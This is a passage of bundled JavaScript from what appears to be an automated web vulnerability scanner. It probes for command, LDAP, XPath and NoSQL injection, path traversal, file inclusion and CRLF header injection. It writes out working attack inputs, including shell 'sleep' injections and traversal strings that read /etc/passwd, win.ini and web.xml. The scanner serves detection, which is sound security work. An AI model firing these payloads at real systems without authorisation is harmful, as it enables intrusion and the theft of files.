injector.note(family, step, baseline + suffix(requested), marker, exchange);
}
return;
}
}
var command_injection = __webpack_require__(34213);
var command_payloads = __webpack_require__(22813);
const commandOutput = defineProbe({
family: "command-injection",
checks: [ command_injection.F ],
cost: 1,
async run(injector, seen) {
seen.afterShell = await probeCommand(injector, (0, command_payloads.B8)(seen.scan.site.isWindows).slice(0, 1));
}
});
const commandSeparators = defineProbe({
family: "command-injection",
checks: [ command_injection.F ],
cost: 3,
async run(injector, {scan: scan}) {
const others = (0, command_payloads.B8)(scan.site.isWindows).slice(1);
const isLikely = (0, command_payloads.cz)(injector.point, injector.siteValue);
await probeCommand(injector, isLikely ? others : others.slice(0, scan.isThorough ? 1 : 0));
}
});
const commandCallbacks = defineProbe({
family: "command-callback",
checks: [ command_injection.F ],
needs: [ "callbacks" ],
unless: [ ...PROVEN_QUERY, "command-injection" ],
cost: 1,
appliesTo: (point, {scan: scan}) => !scan.site.isWindows && (0, command_payloads.cz)(point, siteValueOf(point)),
run: (injector, {callbacks: callbacks}) => callbacks.run({
injector: injector,
family: "command-callback",
payload: name => injector.point.baseline + (0, command_payloads.hZ)(name, (0, arithmetic.LM)(injector.token()), callbacks.isLoopback),
proves: command_payloads.sC
})
});
const commandDelays = defineProbe({
family: "command-time",
checks: [ command_injection.F ],
scanTypes: [ "compliance" ],
unless: [ ...PROVEN_QUERY, "command-injection", "command-callback", "sqli-time" ],
cost: 1,
appliesTo: point => (0, command_payloads.cz)(point, siteValueOf(point)),
run: (injector, {scan: scan}) => scan.clock.run(() => probeDelay(injector, "command-time", SHELL_DELAYS))
});
const SHELL_DELAYS = [ {
name: "a shell",
suffix: delay => `;sleep ${delay.toFixed(1)} #';sleep ${delay.toFixed(1)} #";sleep ${delay.toFixed(1)} # `
} ];
async function probeCommand(injector, syntaxes) {
const {baseline: baseline} = injector.point;
const word = injector.token();
let last = null;
for (const {name: name, suffix: suffix, nonsense: nonsense} of syntaxes) {
if (injector.has("command-injection")) return null;
const payload = baseline + suffix((0, arithmetic.LM)(injector.token()), word);
const hit = await injector.send(payload);
if (hit === null) return null;
last = hit;
if (!(0, command_payloads.v6)(hit.response.text, payload, word)) continue;
const again = baseline + suffix((0, arithmetic.LM)(injector.token()), word);
const control = baseline + nonsense((0, arithmetic.LM)(injector.token()), word);
const [second, other] = [ await injector.send(again), await injector.send(control) ];
if (second === null || other === null) return null;
if (!(0, command_payloads.v6)(second.response.text, again, word) || (0, command_payloads.v6)(other.response.text, control, word)) continue;
injector.note("command-injection", `output: ${name}`, payload, word, hit);
injector.note("command-injection", "again", again, word, second);
injector.note("command-injection", "nonsense", control, word, other);
return null;
}
return last;
}
var ldap_errors = __webpack_require__(38837);
var ldap_injection = __webpack_require__(40425);
const ldapErrors = defineProbe({
family: "ldap-injection",
checks: [ ldap_injection.h ],
needs: [ "letters" ],
cost: 1,
showsError: text => (0, ldap_errors.mR)(text) !== null,
appliesTo: (point, seen) => mayBreakFilter(seen, seen.scan.isThorough || (0, data_names.cP)("directory", (0, 
point_location.hD)(point).parameter)),
run: (injector, {letters: letters}) => probeLdapError(injector, letters)
});
function mayBreakFilter({letters: letters, afterShell: afterShell}, isLikely) {
if (afterShell === null || letters === null) return isLikely;
if ((0, ldap_errors.mR)(afterShell.response.text) !== null) return true;
return isLikely && afterShell.response.status !== letters.exchange.response.status;
}
const ldapConditions = defineProbe({
family: "ldap-injection",
checks: [ ldap_injection.h ],
scanTypes: [ "compliance" ],
unless: [ ...PROVEN_QUERY, ...PROVEN_TARGET ],
cost: 3,
async run(injector, seen) {
const steady = await seen.steady();
if (steady !== null && !steady.endsAtQuotes) await probeLdapCondition(injector, steady);
}
});
async function probeLdapError(injector, letters) {
if ((0, ldap_errors.mR)(letters.exchange.response.text) !== null) return;
const {baseline: baseline} = injector.point;
const marker = injector.token();
const payload = `${baseline})(${marker}`;
const hit = await injector.send(payload);
if (hit === null || (0, ldap_errors.mR)(hit.response.text) === null) return;
const other = `${baseline})(${injector.token()}`;
const escaped = (0, ldap_errors.Mj)(payload);
const [again, clean] = [ await injector.send(other), await injector.send(escaped) ];
if (again === null || (0, ldap_errors.mR)(again.response.text) === null) return;
if (clean === null || (0, ldap_errors.mR)(clean.response.text) !== null) return;
injector.note("ldap-injection", "parenthesis", payload, marker, hit);
injector.note("ldap-injection", "parenthesis", other, marker, again);
injector.note("ldap-injection", "escaped", escaped, marker, clean);
injector.note("ldap-injection", "letters", marker, marker, letters.exchange);
}
async function probeLdapCondition(injector, {value: value, first: first, second: second}) {
const own = (0, steady_response.o)(first, value, value);
const marker = injector.token();
const notes = [ [ "baseline", value, first ], [ "baseline", value, second ] ];
const conditions = [ [ "true: a filter", ")(objectClass=*", true ], [ "false", `)(objectClass=${injector.token()}`, false ], [ "nonsense", ")[objectClass=*", false ], [ "true: a filter", `)(!(objectClass=${injector.token()})`, true ], [ "false", ")(!(objectClass=*)", false ] ];
for (const [step, suffix, isTrue] of conditions) {
const payload = value + suffix;
const exchange = await injector.send(payload);
if (exchange === null || (0, steady_response.o)(exchange, payload, value) === own !== isTrue) return;
notes.push([ step, payload, exchange ]);
}
for (const [step, payload, exchange] of notes) injector.note("ldap-injection", step, payload, marker, exchange);
}
function syntax(context, operator, word, shape) {
return {
context: context,
equation: (one, other) => shape(operator, one, other),
nonsense: one => shape(word, one, one)
};
}
const boolean_payloads_bare = (operator, one, other) => ` ${operator} ${one}=${other}`;
const single = (operator, one, other) => `' ${operator} '${one}'='${other}`;
const boolean_payloads_double = (operator, one, other) => `" ${operator} "${one}"="${other}`;
async function probeBoolean(injector, family, steady, syntaxes) {
for (const syntax of syntaxes) {
const result = await probeContext(injector, family, steady, syntax);
const isFound = result === "found" || result === "accepted" && syntax.byError !== undefined && await probeContext(injector, family, steady, syntax.byError) === "found";
if (isFound) return;
}
}
async function probeContext(injector, family, {value: value, first: first, second: second}, {context: context, equation: equation, nonsense: nonsense, byError: byError}) {
const own = (0, steady_response.o)(first, value, value);
const marker = injector.token();
const isOwn = (exchange, payload) => (0, steady_response.o)(exchange, payload, value) === own;
const notes = [ [ "baseline", value, first ], [ "baseline", value, second ] ];
const follows = async (step, suffix, isTrue) => {
const payload = value + suffix;
const exchange = await injector.send(payload);
if (exchange === null || isOwn(exchange, payload) !== isTrue) return false;
notes.push([ step, payload, exchange ]);
return true;
};
const numbers = () => (0, arithmetic.LM)(injector.token());
const holds = async () => {
const {a: a} = numbers();
return follows(`true: ${context}`, equation(a, a), true);
};
const fails = async () => {
const {a: a, b: b} = numbers();
return follows("false", equation(a, a === b ? b + 1 : b), false);
};
const isInvalid = () => follows("nonsense", nonsense(numbers().a), false);
if (!await holds()) return "none";
if (!await fails()) return byError !== undefined && await isInvalid() ? "accepted" : "none";
if (!(await isInvalid() && await fails() && await holds() && await holds() && await fails())) return "none";
const after = await injector.repeat(value);
if (after === null || !isOwn(after, value)) return "none";
notes.push([ "baseline", value, after ]);
for (const [step, payload, exchange] of notes) injector.note(family, step, payload, marker, exchange);
return "found";
}
var xpath_errors = __webpack_require__(77365);
var xpath_injection = __webpack_require__(46089);
const xpathErrors = defineProbe({
family: "xpath-injection",
checks: [ xpath_injection.H ],
needs: [ "letters", "quoted" ],
cost: 0,
showsError: text => (0, xpath_errors.E)(text) !== null,
run: (injector, {letters: letters, quoted: quoted}) => probeXPathError(injector, letters, quoted)
});
const xpathConditions = defineProbe({
family: "xpath-injection",
checks: [ xpath_injection.H ],
unless: [ ...PROVEN_QUERY, ...PROVEN_TARGET ],
cost: 5,
async run(injector, seen) {
const steady = await seen.steady();
if (steady === null) return probeXPathChoice(injector, seen);
if (steady.endsAtQuotes) return;
const syntaxes = seen.scan.isThorough ? XPATH_SYNTAXES : XPATH_SYNTAXES.slice(0, 1);
await probeBoolean(injector, "xpath-injection", steady, syntaxes);
}
});
const XPATH_SYNTAXES = [ syntax("single quotes", "and", "AND", single), syntax("double quotes", "and", "AND", boolean_payloads_double), syntax("a number", "and", "AND", boolean_payloads_bare) ];
const XPATH_CHOICES = [ "'", '"' ].map(quote => syntax(quote === "'" ? "single quotes" : "double quotes", "starts-with", "starts-witt", (name, one, other) => `${quote} or not(${name}(${quote}${one}${quote},${quote}${other}${quote})) and ${quote}1${quote}=${quote}1`));
const VALID = [ `' and 'a'='a`, `" and "a"="a` ];
async function probeXPathError(injector, letters, quoted) {
if ((0, xpath_errors.E)(quoted.exchange.response.text) === null) return;
if ((0, xpath_errors.E)(letters.exchange.response.text) !== null) return;
const {baseline: baseline} = injector.point;
const marker = injector.token();
const quoteAgain = `${baseline}${reflection.cl}${injector.token()}`;
const again = await injector.send(quoteAgain);
if (again === null || (0, xpath_errors.E)(again.response.text) === null) return;
for (const suffix of VALID) {
const valid = await injector.send(baseline + suffix);
if (valid === null) return;
if ((0, xpath_errors.E)(valid.response.text) !== null) continue;
injector.note("xpath-injection", "quote", `${baseline}${reflection.cl}`, marker, quoted.exchange);
injector.note("xpath-injection", "quote", quoteAgain, marker, again);
injector.note("xpath-injection", "valid", baseline + suffix, marker, valid);
injector.note("xpath-injection", "letters", marker, marker, letters.exchange);
return;
}
}
async function probeXPathChoice(injector, {letters: letters, quoted: quoted}) {
const {baseline: baseline} = injector.point;
const isBroken = quoted !== null && quoted.exchange.response.status >= 500;
if (letters === null || letters.exchange.response.status >= 400 || !isBroken || baseline === "") return;
const first = await injector.send(baseline);
if (first === null) return;
if ((0, steady_response.o)(first, baseline, baseline) !== (0, steady_response.o)(letters.exchange, letters.marker, baseline)) return;
const second = await injector.repeat(baseline);
if (second === null) return;
const steady = {
value: baseline,
first: first,
second: second,
endsAtQuotes: false
};
await probeBoolean(injector, "xpath-injection", steady, XPATH_CHOICES);
}
var alias_proof = __webpack_require__(59517);
var path_traversal = __webpack_require__(7492);
const FOLDERS_MAX = 4;
function staticFolders(crawl, origin) {
const folders = new Map;
const inner = new Map;
const add = href => {
const url = new URL(href);
if (url.origin !== origin || !(0, link_policy.YY)(url) && !(0, link_policy.KJ)(url)) return;
const names = url.pathname.split("/").slice(1, -1);
const [first] = names;
if (first === undefined || names.includes("")) return;
if (!folders.has(`/${first}`)) folders.set(`/${first}`, url.pathname);
const own = `/${names.join("/")}`;
if (names.length > 1 && !inner.has(own)) inner.set(own, url.pathname);
};
for (const {request: request, response: response} of crawl.resources) if (response.status === 200) add(request.url);
for (const {exchange: exchange} of crawl.pages) for (const {url: url} of (0, html_document.lM)(exchange)?.subresources ?? []) add(url);
return new Map([ ...folders, ...inner ].slice(0, FOLDERS_MAX));
}
const FILE_BYTES_MAX = 64 * 1024;
const OTHER_SERVERS = /^\s*(?:apache|microsoft|jetty|.{0,20}coyote|tomcat|kestrel|gunicorn|werkzeug|uvicorn|hypercorn|wsgi|simplehttp|lighttpd|caddy|litespeed|php|mini|envoy|istio)/i;
const folderAliases = {
checks: [ path_traversal._ ],
scanTypes: [ "compliance" ],
run: probeAlias
};
async function probeAlias(context, crawl) {
const banners = [ ...crawl.pages.map(({exchange: exchange}) => exchange), ...crawl.resources ].flatMap(({response: response}) => (0, 
http.wx)(response.headers, "server") ?? []);
if (banners.length > 0 && banners.every(banner => OTHER_SERVERS.test(banner))) return [];
const folders = staticFolders(crawl, context.target.origin);
const probes = [];
for (const [folder, file] of folders) {
const elsewhere = [ ...folders ].find(([other]) => !other.startsWith(`${folder}/`) && other !== folder)?.[1];
probes.push(...await probeFolder(context, folder, elsewhere === undefined ? [ file ] : [ file, elsewhere ]));
}
return probes;
}
async function probeFolder(context, folder, files) {
const request = async path => {
const attempt = await context.fetch({
url: path,
maxBytes: FILE_BYTES_MAX
});
return (0, http.m_)(attempt) ? attempt : null;
};
for (const file of files) {
const below = file.startsWith(`${folder}/`) ? file.slice(folder.lastIndexOf("/")) : file;
const path = `${folder}..${below}`;
const hit = await request(path);
if (hit === null || hit.response.status !== 200) continue;
const original = await request(file);
if (original === null || !(0, alias_proof.D)(hit, original)) continue;
const token = context.token(8);
const letters = await request(`${folder}${token}${below}`);
const without = await request(`${folder}${below}`);
const missing = await request(`${folder}..${below.slice(0, below.lastIndexOf("/") + 1)}${token}`);
if (letters === null || without === null || missing === null) return [];
const common = {
family: "path-traversal",
method: "GET",
parameter: "path",
payload: path,
marker: token
};
const url = `${context.target.origin}${folder}`;
return [ {
...common,
url: url,
step: "alias",
exchange: hit
}, {
...common,
url: url,
step: "alias-original",
exchange: original
}, {
...common,
url: url,
step: "alias-letters",
exchange: letters
}, {
...common,
url: url,
step: "alias-without",
exchange: without
}, {
...common,
url: url,
step: "alias-missing",
exchange: missing
} ];
}
return [];
}
var file_proof = __webpack_require__(1005);
const CLIENT = /<script\b[^>]{0,200}\bsrc=["'](\/[\w./-]{0,100}?)?\/@vite\/client["']/;
const FILES = [ "/etc/passwd", "/C:/Windows/win.ini" ];
const QUERIES = [ "", "?raw??", "?import&raw??" ];
const BYTES_MAX = 64 * 1024;
const developmentFiles = {
checks: [ path_traversal._ ],
scanTypes: [ "standard", "compliance" ],
run: probeDevServer
};
function viteFolder({pages: pages}) {
const client = pages.map(({exchange: exchange}) => CLIENT.exec(exchange.response.text)).find(match => match !== null);
return client === undefined ? null : `${client?.[1] ?? ""}/@fs`;
}
async function probeDevServer(context, crawl) {
const folder = viteFolder(crawl);
if (folder === null) return [];
const request = async path => {
const attempt = await context.fetch({
url: path,
maxBytes: BYTES_MAX
});
return (0, http.m_)(attempt) ? attempt : null;
};
for (const file of FILES) for (const query of QUERIES) {
const payload = `${folder}${file}${query}`;
const hit = await request(payload);
if (hit === null || (0, file_proof.e)(hit.response.text) === null) continue;
const missing = await request(`${folder}${file.replace(/(?<!\w)\w+(?:\.\w+)?$/, context.token(10))}${query}`);
const outside = await request(`/${context.token(10)}${file}${query}`);
if (missing === null || outside === null) return [];
const url = `${context.target.origin}${folder}`;
const common = {
family: "path-traversal",
method: "GET",
parameter: "path",
payload: payload,
marker: "",
url: url
};
return [ {
...common,
step: "file",
exchange: hit
}, {
...common,
step: "missing-file",
exchange: missing
}, {
...common,
step: "outside",
exchange: outside
} ];
}
return [];
}
var file_inclusion = __webpack_require__(68209);
var include_payloads = __webpack_require__(39052);
const PAYLOADS_MAX = {
java: 11,
other: 13
};
const VERSION = "proc/version";
const PASSWD = "etc/passwd";
const WIN_INI = "windows/win.ini";
const WEB_XML = "WEB-INF/web.xml";
const up = (steps, step = "../") => step.repeat(steps);
const DEEP = 12;
function traversalPayloads(place) {
const {example: example, isWindows: isWindows} = place;
if (/^https?:/i.test(example)) return [ fileUrl(isWindows), cheapestPayload(isWindows) ];
const payloads = place.server === "java" ? javaPayloads(place) : isWindows ? windowsPayloads() : unixPayloads(place);
const folder = example.slice(0, example.lastIndexOf("/") + 1);
if (/^file:/i.test(example)) payloads.unshift(fileUrl(isWindows)); else if (/^[^/].*\//.test(folder)) {
payloads.splice(2, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
if (!isWindows) payloads.unshift(folder + up(DEEP) + VERSION);
} else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
return [ ...new Set(payloads) ].slice(0, PAYLOADS_MAX[place.server]);
}
function cheapestPayload(isWindows) {
return `/${up(DEEP)}${isWindows ? WIN_INI : VERSION}`;
}
function unixPayloads({example: example, endsAtZero: endsAtZero, knownPath: knownPath}) {
const ending = /\.[a-z][a-z0-9]{1,4}$/i.exec(example)?.[0] ?? "";
return [ cheapestPayload(false), `/${up(DEEP)}${PASSWD}`, up(DEEP) + PASSWD, `/${up(DEEP, "....//")}${PASSWD}`, `/${PASSWD}`, ...endsAtZero ? [ `/${up(DEEP)}${PASSWD}\0${ending}` ] : [], backslashes(up(DEEP) + PASSWD), backslashes(up(DEEP) + WIN_INI), fileUrl(false), `%2f${up(DEEP, "%2e%2e%2f")}${PASSWD.replace("/", "%2f")}`, ...knownPath === null ? [] : [ `..${knownPath}`, `../..${knownPath}` ] ];
}
function fileUrl(isWindows) {
return `file:///${isWindows ? `c:/${WIN_INI}` : PASSWD}`;
}
function backslashes(path) {
return path.replaceAll("/", "\\");
}
function windowsPayloads() {
return [ `/${up(DEEP)}${WIN_INI}`, backslashes(`/${up(DEEP)}${WIN_INI}`), backslashes(`c:/${WIN_INI}`), backslashes(up(DEEP) + WIN_INI), `/${up(DEEP, "....//")}${WIN_INI}`, `%2f${up(DEEP, "%2e%2e%2f")}${WIN_INI.replace("/", "%2f")}`, fileUrl(true), `/${up(DEEP)}${PASSWD}` ];
}
function javaPayloads(place) {
const {isWindows: isWindows, example: example} = place;
const inside = `/${up(stepsToContext(place))}${WEB_XML}`;
const outside = isWindows ? WIN_INI : PASSWD;
const direct = [ `/${WEB_XML}`, isWindows ? backslashes(`c:/${outside}`) : `/${outside}` ];
const payloads = [ cheapestPayload(isWindows), inside, `/${up(DEEP)}${outside}`, ...example === "" ? [ `/${WEB_XML}`, fileUrl(isWindows) ] : [], backslashes(isPathInApplication(place) ? `/${WEB_XML}` : inside), inside.replaceAll("../", "....//"), ...place.contextPath === null ? [ `/${up(DEEP, "....//")}${outside}` ] : [], ...direct, fileUrl(isWindows), `/${up(1)}${WEB_XML}`, isWindows ? backslashes(`/${up(DEEP)}${outside}`) : `%2f${up(DEEP, "%2e%2e%2f")}${outside.replace("/", "%2f")}` ];
if (!isPathInApplication(place)) return payloads;
return [ place.example.startsWith("\\") ? backslashes(`/${WEB_XML}`) : `/${WEB_XML}`, ...payloads ];
}
function folders(path) {
return path.split("/").slice(1, -1);
}
function stepsToContext({pagePath: pagePath, contextPath: contextPath}) {
const depth = folders(pagePath).length;
const context = contextPath === null ? depth > 1 ? 1 : 0 : folders(`${contextPath.replace(/\/$/, "")}/`).length;
return Math.min(Math.max(depth - context, 0), DEEP);
}
function isPathInApplication({example: example, pagePath: pagePath}) {
const own = `/${folders(pagePath).join("/")}/`;
const given = folders(example.replaceAll("\\", "/"));
return /^[\\/]/.test(example) && given.length > 0 && own.endsWith(`/${given.join("/")}/`);
}
function fileLikeness(point, example, linked) {
if (point.kind === "name" || point.kind === "document") return null;
if (point.kind === "path") return /\.\w{1,5}$/.test(example) ? "vague" : null;
const name = point.kind === "query-string" ? "" : point.kind === "json" ? String(point.path.at(-1)) : point.name;
if ((0, data_names.cP)("file", name) || /[\w-]\.[a-z][a-z0-9]{1,4}$/i.test(example)) return "strong";
const isWord = /[a-z]/i.test(example);
const isVague = isWord && (0, data_names.cP)("selector", name) || /^\.{0,2}\/[\w./-]+$/.test(example);
return isVague || linked !== null && isFileType(linked) ? "vague" : null;
}
function isFileType({response: {status: status, headers: headers}}) {
const type = (0, http.wx)(headers, "content-type") ?? "";
return status === 200 && /^\s*(?:(?:image|audio|video|font)\/|text\/(?:plain|csv|markdown)|application\/(?:pdf|zip|gzip|octet-stream|msword|vnd\.))/i.test(type);
}
function sameFile(example) {
if (!/^[\w./ -]*[\w-]$/.test(example)) return null;
const file = example.lastIndexOf("/") + 1;
return `${example.slice(0, file)}./${example.slice(file)}`;
}
function withoutValues(text, values) {
const forms = values.flatMap(value => [ value, encodeURIComponent(value), encodeURI(value), value.replace(/[&<>"']/g, character => `&#${character.charCodeAt(0)};`) ]);
const longestFirst = [ ...new Set(forms) ].filter(form => form !== "").sort((one, other) => other.length - one.length);
return longestFirst.reduce((rest, form) => rest.replaceAll(form, ""), text.slice(0, 64 * 1024)).replace(/\d+/g, "0");
}
const fileInclusion = defineProbe({
family: "file-inclusion",
checks: [ file_inclusion.x ],
scanTypes: [ "compliance" ],
needs: [ "letters" ],
cost: 3,
appliesTo: (point, {scan: scan}) => scan.site.endsAtZero && fileLikeness(point, siteValueOf(point), null) !== null,
run: (injector, {letters: letters}) => probeFileInclusion(injector, letters.exchange)
});
async function probeFileInclusion(injector, letters) {
const {point: point, siteValue: siteValue} = injector;
const word = injector.token();
const make = () => (0, include_payloads.Ly)((0, arithmetic.LM)(injector.token()), word);
const payload = make();
const hit = await injector.send(payload);
if (hit === null) return;
if ((0, include_payloads.Wf)(hit.response.text, payload, word)) {
const again = make();
const second = await injector.send(again);
if (second === null || !(0, include_payloads.Wf)(second.response.text, again, word)) return;
injector.note("file-inclusion", "product", payload, word, hit);
injector.note("file-inclusion", "product", again, word, second);
return;
}
for (const filter of (0, include_payloads.m$)(new URL((0, point_location.hD)(point).url).pathname, siteValue)) {
const source = await injector.send(filter);
if (source === null) return;
if ((0, include_payloads.gX)(source.response.text) === null) continue;
const missing = filter.replace(/=[\w-]+/, `=${injector.token()}`);
const control = await injector.send(missing);
if (control === null) return;
injector.note("file-inclusion", "source", filter, word, source);
injector.note("file-inclusion", "missing", missing, word, control);
injector.note("file-inclusion", "letters", word, word, letters);
return;
}
}
var unvalidated_forward = __webpack_require__(44649);
const VAGUE_PAYLOADS = 4;
const UNTESTED_PAYLOADS = 2;
const fileNames = defineProbe({
family: "path-traversal",
checks: [ path_traversal._, unvalidated_forward.P ],
roles: [ "parameter", "folder" ],
unless: [ "open-redirect" ],
cost: 13,
appliesTo(point, {letters: letters}) {
return !isBrowserHeader(point) && (letters === null || !isRedirectedTo(letters));
},
run: probeTraversal
});
function isRedirectedTo({exchange: exchange, marker: marker}) {
const {status: status, headers: headers} = exchange.response;
return status >= 300 && status < 400 && ((0, http.wx)(headers, "location") ?? "").toLowerCase().includes(marker);
}
async function probeTraversal(injector, {scan: scan, letters: letters, linked: linked}) {
const {site: site} = scan;
const likeness = fileLikeness(injector.point, injector.siteValue, linked);
if (likeness === null && (letters === null || injector.point.kind === "path")) return;
if (likeness !== "strong" && !scan.isThorough) return;
const sample = probe_traversal_sampleOf(site, letters);
const payloads = payloadsFor(injector, site, sample, likeness);
let kind = "unknown";
for (const [index, payload] of payloads.entries()) {
if (index === UNTESTED_PAYLOADS) kind = await valueKind(injector, letters);
if (isPointless(payload, kind, site)) continue;
const exchange = await injector.send(payload);
if (exchange === null) return;
const proof = fileIn(exchange, sample);
if (proof === null) continue;
await noteWithControls(injector, payload, exchange, letters, proof);
return;
}
}
function probe_traversal_sampleOf({known: known}, letters) {
const text = known === null ? null : (0, file_proof.D)(known.body);
return text !== null && letters?.exchange.response.text.includes(text) === true ? null : text;
}
function payloadsFor({point: point, siteValue: siteValue}, site, sample, likeness) {
if (likeness === null) return [ cheapestPayload(site.isWindows) ];
const payloads = traversalPayloads({
example: siteValue,
pagePath: new URL((0, point_location.hD)(point).url).pathname,
server: site.server,
isWindows: site.isWindows,
contextPath: site.contextPath,
endsAtZero: site.endsAtZero,
knownPath: sample === null ? null : site.known?.path ?? null
});
return likeness === "vague" ? payloads.slice(0, VAGUE_PAYLOADS) : payloads;
}
function isPointless(payload, kind, site) {
const isAddress = payload.startsWith("file:");
if (kind === "key") return !isAddress || isRare(payload, site);
if (kind === "path") return isAddress && site.server === "java";
return isRare(payload, site);
}
function fileIn({response: {text: text}}, sample) {
if ((0, file_proof.e)(text) !== null) return "";
return sample !== null && text.includes(sample) ? sample : null;
}
function isRare(payload, {server: server, isWindows: isWindows}) {
return server === "other" && !isWindows && /\\|\u0000$/.test(payload);
}
async function valueKind(injector, plain) {
const example = injector.siteValue;
const other = sameFile(example);
if (plain === null || other === null) return "unknown";
const values = [ plain.marker, other, example ];
const nothing = responseKey(plain.exchange, values);
const attempt = await injector.send(other);
if (attempt === null) return "unknown";
const rewritten = responseKey(attempt, values);
const known = rewritten === nothing ? await injector.send(example) : await injector.knownExample();
if (known === null) return rewritten === nothing ? "unknown" : "path";
const own = responseKey(known, values);
if (own === nothing) return "unknown";
return rewritten === nothing ? "key" : rewritten === own ? "path" : "unknown";
}
function responseKey({response: response}, values) {
const location = (0, http.wx)(response.headers, "location") ?? "";
return `${response.status} ${withoutValues(location, values)} ${withoutValues(response.text, values)}`;
}
async function noteWithControls(injector, payload, hit, plain, sample) {
const missing = payload.replace(/(?<![\w.-])[\w.-]+(?=(?:\u0000[\w./]*|%00[\w./]*|\?|#)?$)/, injector.token());
const control = await injector.send(missing);
const baseline = await injector.knownExample() ?? plain?.exchange ?? null;
if (control === null || baseline === null) return;
injector.note("path-traversal", "file", payload, sample, hit);
injector.note("path-traversal", "baseline", injector.point.baseline, sample, baseline);
injector.note("path-traversal", "missing-file", missing, sample, control);
}
const probe_url_path_BYTES_MAX = 64 * 1024;
const probe_url_path_FOLDERS_MAX = 2;
const probe_url_path_DEEP = 12;
const probe_url_path_up = step => step.repeat(probe_url_path_DEEP);
const probe_url_path_FORMS = [ `${probe_url_path_up("../")}etc/passwd`, `${probe_url_path_up("%2e%2e/")}etc/passwd`, `${probe_url_path_up("%2e%2e%2f")}etc%2fpasswd`, `${probe_url_path_up(".%2e/")}etc/passwd`, `${probe_url_path_up("....//")}etc/passwd`, "/etc/passwd" ];
const FORMS_IN_FOLDERS = probe_url_path_FORMS.slice(1, 3);
const urlPaths = {
checks: [ path_traversal._ ],
scanTypes: [ "standard", "compliance" ],
run: probeUrlPath
};
async function probeUrlPath(context, crawl) {
if (viteFolder(crawl) !== null) return [];
const folders = [ ...staticFolders(crawl, context.target.origin).keys() ].slice(0, probe_url_path_FOLDERS_MAX);
for (const form of probe_url_path_FORMS) {
const found = await probe_url_path_read(context, "/", form);
if (found.length > 0) return found;
}
for (const folder of folders) for (const form of FORMS_IN_FOLDERS) {
const found = await probe_url_path_read(context, `${folder}/`, form);
if (found.length > 0) return found;
}
return [];
}
async function probe_url_path_read(context, folder, form) {
const request = async path => {
const attempt = await context.fetch({
url: `${context.target.origin}${folder}${path}`,
maxBytes: probe_url_path_BYTES_MAX
});
return (0, http.m_)(attempt) ? attempt : null;
};
const hit = await request(form);
if (hit === null || (0, file_proof.e)(hit.response.text) === null) return [];
const token = context.token(10);
const missing = await request(form.replace("passwd", token));
const outside = await request(`${token}/etc/passwd`);
if (missing === null || outside === null) return [];
const url = `${context.target.origin}${folder}`;
const common = {
family: "path-traversal",
method: "GET",
parameter: "path",
marker: "",
url: url
};
const payload = folder + form;
return [ {
...common,
payload: payload,
step: "file",
exchange: hit
}, {
...common,
payload: payload,
step: "missing-file",
exchange: missing
}, {
...common,
payload: payload,
step: "outside",
exchange: outside
} ];
}
var crlf = __webpack_require__(30036);
var injected_header = __webpack_require__(49621);
const probe_header_FOLDERS_MAX = 3;
const lineEnds = defineProbe({
family: "crlf",
checks: [ crlf.E ],
needs: [ "letters" ],
cost: 2,
run: (injector, {letters: letters, canary: canary, linked: linked}) => probeHeaderSplit(injector, letters.exchange, canary, linked)
});
const pathLineEnds = {
checks: [ crlf.E ],
scanTypes: [ "standard", "compliance" ],
run: (context, {redirects: redirects}) => probePathSplit(context, redirects ?? [])
};
async function probeHeaderSplit(injector, letters, canary, linked) {
const isInHeader = letters.response.headers.some(([, value]) => value.toLowerCase().includes(canary));
const {siteValue: siteValue} = injector;
const before = isInHeader ? canary : linked !== null && (0, injected_header.U)(linked, siteValue, letters) ? siteValue : null;
if (before === null) return;
const marker = injector.token();
for (const lineEnd of [ "\r\n", "\n" ]) {
const payload = `${before}${lineEnd}X-${marker}: 1`;
const exchange = await injector.send(payload);
if (exchange === null || !(0, injected_header.Y)(exchange, marker)) continue;
injector.note("crlf", "new-header", payload, marker, exchange);
return;
}
}
async function probePathSplit(context, redirects) {
const folders = new Set([ "/" ]);
for (const {request: request, response: response} of redirects) {
const path = new URL(request.url).pathname;
const last = path.replace(/\/$/, "").split("/").at(-1) ?? "";
const isCopied = last !== "" && (0, http.wx)(response.headers, "location")?.includes(last) === true;
if (isCopied && folders.size <= probe_header_FOLDERS_MAX) folders.add(path.slice(0, path.lastIndexOf("/") + 1));
}
const probes = [];
for (const folder of folders) {
const marker = context.token(10);
const payload = `${folder}${marker}%0d%0aX-${marker}:%201`;
const attempt = await context.fetch({
url: payload,
fresh: true
});
if (!(0, http.m_)(attempt) || !(0, injected_header.Y)(attempt, marker)) continue;
const url = new URL(folder, context.target.origin).href;
const common = {
family: "crlf",
method: "GET",
parameter: "path",
step: "new-header"
};
probes.push({
...common,
url: url,
payload: payload,
marker: marker,
exchange: attempt
});
}
return probes;
}
var nosql_injection = __webpack_require__(74605);
const nosqlOperators = defineProbe({
family: "nosql-injection",
checks: [ nosql_injection.F ],
unless: [ ...PROVEN_QUERY, ...PROVEN_TARGET ],
cost: 3,
async run(injector, seen) {
const steady = await seen.steady();
if (steady !== null) await probeNoSql(injector, steady);
}
});
const OPERATORS = [ [ "[$eq]", "true: $eq", true ], [ "[$ne]", "false", false ], [ "[$in][]", "true: $in", true ], [ "[$nin][]", "false", false ], [ "[$sgx]", "nonsense", false ] ];
const MEMBER_OPERATORS = [ [ "$eq", true, "true: $eq", true ], [ "$eq", false, "false", false ], [ "$in", true, "true: $in", true ], [ "$in", false, "false", false ], [ "$sgx", true, "nonsense", false ] ];
async function probeNoSql(injector, {value: value, first: first, second: second}) {
const {point: point} = injector;
const own = (0, steady_response.o)(first, value, value);
const marker = injector.token();
const notes = [ [ "nosql-injection", "baseline", value, marker, first ], [ "nosql-injection", "baseline", value, marker, second ] ];
for (const {at: at, value: sent, step: step, isOwn: isOwn} of stepsOf(point, value, marker)) {
const exchange = await injector.sendAs(at, sent);
if (exchange === null || (0, steady_response.o)(exchange, sent, value) === own !== isOwn) return;
notes.push([ "nosql-injection", step, sent, marker, exchange ]);
}
for (const note of notes) injector.note(...note);
}
function stepsOf(point, value, other) {
if (point.kind === "json") {
const name = point.path.findLast(key => typeof key === "string") ?? "";
return isSecret(name) ? [] : MEMBER_OPERATORS.map(([operator, isOwnValue, step, isOwn]) => ({
at: within(point, operator),
value: isOwnValue ? value : other,
step: step,
isOwn: isOwn
}));
}
if (point.kind !== "query" && point.kind !== "form" || isSecret(point.name)) return [];
return OPERATORS.map(([operator, step, isOwn]) => ({
at: renamed(point, operator),
value: value,
